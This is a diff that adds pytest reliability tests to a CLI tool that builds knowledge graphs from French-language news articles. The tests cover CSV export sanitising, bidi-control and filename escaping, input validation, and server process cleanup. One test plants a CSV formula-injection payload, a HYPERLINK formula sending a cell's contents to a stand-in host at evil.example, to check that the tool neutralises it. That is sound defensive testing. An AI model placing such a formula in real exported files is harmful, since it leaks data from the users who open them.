+    result = runner.invoke(app, ["remove", SEED_FILES[0].stem, "-o", str(out)])
+    assert result.exit_code == 1 and "no article" in result.output
+
+
+# ============================================================== 10. CSV formula injection
+@pytest.mark.model
+def test_reliability_10_csv_cells_cannot_be_formulas(tmp_path):
+    src = tmp_path / "in"
+    src.mkdir()
+    (src / "evil.txt").write_text(
+        ' date 2016-05-01\n=HYPERLINK("http://evil.example/?"&A1;"clic") Les rebelles ont pris le contrôle de la '
+        "ville de Homs samedi, selon l'Observatoire syrien des droits de l'homme.\n"
+        "+Les forces du régime ont bombardé Alep lundi\u202e, selon l'OSDH.\n", encoding="utf-8")
+    out = tmp_path / "o"
+    report = _build([src], out)
+    assert report.events >= 2
+    for name in ("events.csv", "entities.csv"):
+        with open(out / name, encoding="utf-8", newline="") as fh:
+            cells = [c for row in csv.reader(fh) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
+        assert not [c for c in cells if "\u202e" in c], name
+    with open(out / "events.csv", encoding="utf-8", newline="") as fh:
+        notes = [r["notes"] for r in csv.DictReader(fh)]
+    assert any(n.startswith("'=HYPERLINK(") for n in notes) and any(n.startswith("'+Les forces") for n in notes)
+
+
+def test_reliability_10_csv_cell():
+    from kg.store import csv_cell
+
+    assert [csv_cell(v) for v in ("=1+1", "+33", "-2", "@SUM(A1)", "\tx", "\rx", "Alep", "", 3, -3.5)] == \
+        ["'=1+1", "'+33", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "Alep", "", 3, -3.5]
+
+
+# ============================================================== 11. the minor ones
+@pytest.mark.model
+def test_reliability_11_a_users_store_folder_is_refused_before_anything_is_written(tmp_path):
+    out = tmp_path / "o"
+    _build([ONE], out, store=False)
+    before = (out / "graph.ttl").read_bytes()
+    (out / "store").mkdir()
+    (out / "store" / "mine.txt").write_text("mine\n", encoding="utf-8")
+    parsed = []
+    from kg.pipeline import build
+
+    with pytest.raises(KgError, match="not a store written by kg"):
+        build([SEED_FILES[0]], out, html=False, validate=False, progress=lambda *a: parsed.append(a))
+    assert parsed == [] and (out / "graph.ttl").read_bytes() == before
+    assert (out / "store" / "mine.txt").read_text(encoding="utf-8") == "mine\n"
+
+
+@pytest.mark.parametrize("content, problem", [
+    ('{"merge": ["Homs"]}', '"merge" must map surface forms'),
+    ('{"merge": {"Homs": 3}}', '"merge" must map surface forms'),
+    ('{"split": "Homs"}', '"split" must be a list'),
+    ('["Homs"]', "must be a JSON object"),
+    ('{"merge": {}, "splt": []}', "unknown overrides key 'splt'"),
+    ("{not json", "cannot read overrides"),
+])
+def test_reliability_11_bad_overrides_are_a_usage_error_before_parsing(tmp_path, content, problem):
+    bad = tmp_path / "over.json"
+    bad.write_text(content, encoding="utf-8")
+    result = runner.invoke(app, ["build", str(ONE), "-o", str(tmp_path / "o"), "--overrides", str(bad)])
+    assert result.exit_code == 2, result.output
+    assert f"kg: error: {bad}: " in result.output and problem in result.output
+    assert result.exception is None or isinstance(result.exception, SystemExit)
+    assert not (tmp_path / "o").exists()
+
+
+def test_reliability_11_an_unwritable_output_folder_is_found_before_parsing(tmp_path, monkeypatch):
+    """Fault injection: every write into OUT fails as on a read-only file system (EROFS)."""
+    import errno
+
+    out = tmp_path / "o"
+    out.mkdir()
+    real_open, real_mkdir = os.open, os.mkdir
+
+    def ro(path) -> bool:
+        return Path(path).resolve().parent == out.resolve() or Path(path).resolve() == out.resolve()
+
+    def fake_open(path, flags, *a, **kw):
+        if ro(path) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
+            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(path))
+        return real_open(path, flags, *a, **kw)
+
+    def fake_mkdir(path, *a, **kw):
+        if ro(path):
+            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(path))
+        return real_mkdir(path, *a, **kw)
+
+    monkeypatch.setattr(os, "open", fake_open)
+    monkeypatch.setattr(os, "mkdir", fake_mkdir)
+    parsed = []
+    from kg.pipeline import build
+
+    with pytest.raises(BuildError, match="Read-only file system"):
+        build([ONE], out, progress=lambda *a: parsed.append(a))
+    assert parsed == []
+
+
+@pytest.mark.model
+def test_reliability_11_errors_while_reading_results_are_one_line(tmp_path):
+    from helpers import seed_build
+
+    port = _free_port()  # nothing listens there
+    q = f"SELECT ?s WHERE {{ SERVICE <http://127.0.0.1:{port}/sparql> {{ ?s ?p ?o }} }}"
+    for extra, start in (([], "kg: error: the query uses SERVICE"), (["--allow-service"], "kg: error: SPARQL error:")):
+        result = runner.invoke(app, ["query", q, "-g", str(seed_build() / "graph.ttl"), *extra])
+        assert result.exit_code == 1, result.output
+        assert result.output.startswith(start) and len(result.output.strip().splitlines()) == 1, result.output
+
+
+def test_reliability_11_file_names_are_printed_on_one_line(tmp_path):
+    src = tmp_path / "in"
+    src.mkdir()
+    (src / "bad\nname\u202etxt.txt").write_text("Les rebelles ont pris Alep.\n", encoding="utf-8")
+    result = runner.invoke(app, ["build", str(src), "-o", str(tmp_path / "o")])
+    assert result.exit_code == 3, result.output
+    lines = [line for line in result.output.splitlines() if line.startswith("kg: rejected:")]
+    assert len(lines) == 1 and "bad\\nname\\u202etxt.txt" in lines[0]
+    from kg.errors import printable
+
+    assert printable("a\x1b[31mb") == "a\\u001b[31mb"
+
+
+@pytest.mark.model
+def test_reliability_11_quiet_prints_no_progress(tmp_path):
+    src = tmp_path / "in"
+    src.mkdir()
+    for i in range(20):  # progress is shown from 20 articles
+        (src / f"a{i:02d}.txt").write_text(f"Les rebelles ont pris Alep le {i + 1} mars.\n", encoding="utf-8")
+    quiet = runner.invoke(app, ["build", str(src), "-o", str(tmp_path / "q"), "-q", "--no-html", "--no-validate"])
+    assert quiet.exit_code == 0, quiet.output
+    assert quiet.output == ""
+    loud = runner.invoke(app, ["build", str(src), "-o", str(tmp_path / "l"), "--no-html", "--no-validate"])
+    assert "[20/20]" in loud.output  # what -q hides
+
+
+def test_reliability_11_future_publication_dates_and_bidi_controls_are_warned():
+    from kg.ingest import article_from_text
+
+    text = " date 2999-01-01\nLes rebelles ont pris Alep\u202e."
+    art = article_from_text("a", text)
+    codes = {w.code: str(w) for w in art.warnings}
+    assert "in the future" in codes["future_date"]
+    assert f"U+202E at offset {text.index(chr(0x202e))}" in codes["bidi"]
+    assert not article_from_text("b", " date 2016-01-01\nLes rebelles ont pris Alep.").warnings
+
+
+def test_reliability_11_the_view_shows_bidi_controls_escaped():
+    from kg.view import _escape, _visible
+
+    assert _visible("Alep\u202eetsiL") == "Alep\\u202eetsiL" and "\u202e" not in _escape("x\u2067y")
+
+
+def _children(pid: int) -> list[int]:
+    import psutil
+
+    try:
+        return [c.pid for c in psutil.Process(pid).children(recursive=True)]
+    except psutil.NoSuchProcess:
+        return []
+
+
+def test_reliability_11_a_killed_kg_serve_takes_oxigraph_with_it(tmp_path):
+    import psutil
+    from test_serve import TRIG
+
+    (tmp_path / "g.trig").write_text(TRIG, encoding="utf-8")
+    port = _free_port()
+    proc = subprocess.Popen([sys.executable, "-m", "kg.cli", "serve", "-g", str(tmp_path / "g.trig"), "--port",
+                             str(port)], cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        line = ""
+        deadline = time.monotonic() + 60
+        while not line.startswith("Press Ctrl-C") and time.monotonic() < deadline:
+            line = proc.stdout.readline()
+            assert line or proc.poll() is None, proc.stderr.read()
+        children = [c for c in _children(proc.pid) if "oxigraph" in psutil.Process(c).name()]
+        assert children, "no oxigraph child"
+        proc.send_signal(signal.SIGKILL)
+        proc.wait(timeout=30)
+        deadline = time.monotonic() + 20
+        while time.monotonic() < deadline and any(psutil.pid_exists(c) and psutil.Process(c).status() != "zombie"
+                                                  for c in children):
+            time.sleep(0.2)
+        alive = [c for c in children if psutil.pid_exists(c) and psutil.Process(c).status() != "zombie"]
+        for c in alive:  # do not leave it running, whatever the test says
+            os.kill(c, signal.SIGKILL)
+        assert not alive, "oxigraph outlived kg serve"
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait(timeout=30)
+        proc.stdout.close()
+        proc.stderr.close()
+
+
+def test_reliability_11_a_busy_port_is_said_plainly(tmp_path):
+    from test_serve import TRIG
+
+    (tmp_path / "g.trig").write_text(TRIG, encoding="utf-8")
+    with socket.socket() as busy:
+        busy.bind(("127.0.0.1", 0))
+        busy.listen()
+        port = busy.getsockname()[1]
+        result = runner.invoke(app, ["serve", "-g", str(tmp_path / "g.trig"), "--port", str(port)])
+    assert result.exit_code == 1, result.output
+    assert f"kg: error: port {port} on 127.0.0.1 is already in use; pass another --port" in result.output
